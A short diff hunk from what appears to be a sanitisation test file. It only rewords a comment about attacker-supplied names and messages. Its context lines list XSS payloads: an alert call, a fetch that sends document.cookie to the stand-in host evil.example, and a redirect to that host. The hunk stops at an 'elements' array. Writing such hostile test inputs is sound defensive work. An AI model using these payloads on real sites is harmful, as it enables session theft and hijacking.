@@ -1,4 +1,4 @@
-/** What strangers write where a name or a sentence is asked for. Nothing of it may become markup, a header or a command. */
+/** Texts of attackers for names and messages. None of them may become markup, a header or a command. */
 
 const scripts = ['alert(1)', "fetch('//evil.example/'+document.cookie)", 'top.location=`//evil.example`']
 const elements = [
